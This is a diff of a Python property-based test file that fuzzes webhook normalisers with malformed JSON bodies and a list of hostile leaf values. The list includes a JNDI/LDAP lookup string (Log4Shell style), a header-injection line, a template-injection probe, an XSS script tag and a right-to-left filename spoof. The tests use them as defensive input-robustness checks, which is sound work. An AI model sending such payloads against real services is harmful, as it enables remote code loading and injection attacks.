@@ -1,8 +1,11 @@
 """Whatever JSON a sender posts, each normaliser makes events or says why not (a 400): no other exception escapes.
 
-Two kinds of input: any JSON value at all, and each tool's documented fixtures with one part anywhere in them
+Three kinds of input: any JSON value at all; each tool's documented fixtures with one part anywhere in them
 replaced by any JSON value (a number where a string was, a list where an object was, a missing field), which is
-how a tool's payload goes wrong in practice.
+how a tool's payload goes wrong in practice; and request bodies, read as the endpoint reads them, holding what
+JSON parsers disagree about (NaN, 1e999, numbers of thousands of digits, nesting past the limit, lone surrogates).
+Every value is drawn with hostile leaves among the ordinary ones: NUL, right-to-left marks, empty keys, line
+breaks, template and log injections, huge and tiny numbers.
 """
 
 from __future__ import annotations
@@ -12,21 +15,31 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from hypothesis import HealthCheck, given, settings
+from hypothesis import given
 from hypothesis import strategies as st
 
 from hub.domain import InboundEvent
 from ingest.errors import InvalidPayload
 from ingest.webhooks import opsgenie, pagerduty
+from ingest.webhooks.generic import MAX_DEPTH, parse_json
 from ingest.webhooks.kinds import NORMALISERS, normalise, normalise_deploy
+from tests.fuzzing import fuzz
 from tests.ingest.test_mapping import BODY as MAPPED_BODY
 from tests.ingest.test_mapping import SPEC as MAPPING
 
 FIXTURES = Path(__file__).parent / "fixtures"
 
+#: Strings and numbers that broke some parser somewhere (only what JSON itself can carry: lone surrogates come in
+#: through the body, where the endpoint's reader mends them).
+HOSTILE = st.sampled_from(
+    ["", " ", "\x00", "a\x00b", "\u202egnp.exe", "\ufeff", "\r\nX-Injected: 1", "NaN", "Infinity", "-1e999", "null",
+     "{{7*7}}", "${jndi:ldap://x/a}", "%s%n", "<script>alert(1)</script>", "x" * 10_000, "\U0001f525" * 50,
+     10**100, -(2**63) - 1, 2**64, 1e308, -0.0, 5e-324, True, 0, -1, [], {}, {"": ""}]
+)  # fmt: skip
+KEYS = st.text(max_size=12) | st.sampled_from(["", "\x00", "labels", "status", "title", "alerts", "__proto__"])
 JSON = st.recursive(
-    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=40),
-    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
+    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=40) | HOSTILE,
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(KEYS, inner, max_size=4),
     max_leaves=20,
 )
 
@@ -95,6 +108,16 @@ def normalises_or_refuses(name: str, payload: Any) -> None:
         assert isinstance(event.description, str)
         assert event.dedup_key is None or isinstance(event.dedup_key, str)
         assert all(isinstance(k, str) and isinstance(v, str) for k, v in event.labels.items()), event.labels
+        texts = [event.title, event.description, event.dedup_key or "", *event.labels, *event.labels.values()]
+        assert all(utf8(text) for text in texts), "text that no database or page can hold"
+
+
+def utf8(text: str) -> bool:
+    try:
+        text.encode("utf-8")
+    except UnicodeEncodeError:
+        return False
+    return True
 
 
 def paths_in(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
@@ -131,14 +154,14 @@ def dropped(value: Any, path: tuple[Any, ...]) -> Any:
 
 
 @pytest.mark.parametrize("name", NORMALISERS_BY_FIXTURES)
-@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@fuzz(300)
 @given(payload=JSON)
 def test_any_json_is_normalised_or_refused_with_a_reason(name: str, payload: Any) -> None:
     normalises_or_refuses(name, payload)
 
 
 @pytest.mark.parametrize("name", NORMALISERS_BY_FIXTURES)
-@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@fuzz(400)
 @given(data=st.data())
 def test_a_documented_payload_with_one_part_changed_or_missing_is_normalised_or_refused(
     name: str, data: st.DataObject
@@ -149,3 +172,38 @@ def test_a_documented_payload_with_one_part_changed_or_missing_is_normalised_or_
         normalises_or_refuses(name, dropped(payload, path))
     else:
         normalises_or_refuses(name, replaced(payload, path, data.draw(JSON, label="new value")))
+
+
+#: Tokens some JSON readers take and JSON does not have, put where a value was (the marker string is replaced in
+#: the written body), and lone surrogates, escaped or raw, as a cut-off emoji leaves them.
+TOKENS = st.sampled_from(["NaN", "-Infinity", "1e999", "1" * 5000, "0." + "0" * 400 + "1", '"\\ud83d"',
+                          '"\ud83d"', '"\\udc00x"', "[" * 200 + "]" * 200])  # fmt: skip
+MARKER = "@@replaced-by-a-token@@"
+
+
+def nest(value: Any, depth: int, kind: str) -> Any:
+    for _ in range(depth):
+        value = [value] if kind == "list" else {"a": value}
+    return value
+
+
+@pytest.mark.parametrize("name", NORMALISERS_BY_FIXTURES)
+@fuzz(150)
+@given(data=st.data())
+def test_any_body_is_read_and_normalised_or_refused_with_a_reason(name: str, data: st.DataObject) -> None:
+    payload = data.draw(st.sampled_from(fixtures_of(name)) | JSON, label="payload")
+    path = data.draw(st.sampled_from(paths_in(payload)), label="path")
+    choice = data.draw(st.sampled_from(["token", "nested", "as is"]), label="change")
+    if choice == "nested":
+        depth = data.draw(st.integers(MAX_DEPTH - 3, MAX_DEPTH + 3), label="depth")
+        payload = replaced(payload, path, nest("x", depth - len(path), data.draw(st.sampled_from(["list", "dict"]))))
+    elif choice == "token":
+        payload = replaced(payload, path, MARKER)
+    body = json.dumps(payload, ensure_ascii=data.draw(st.booleans(), label="ascii"))
+    body = body.replace(json.dumps(MARKER), data.draw(TOKENS, label="token"))
+    try:
+        value = parse_json(body.encode("utf-8", "surrogatepass"))
+    except InvalidPayload as exc:
+        assert str(exc), "a refusal must say why"
+        return
+    normalises_or_refuses(name, value)
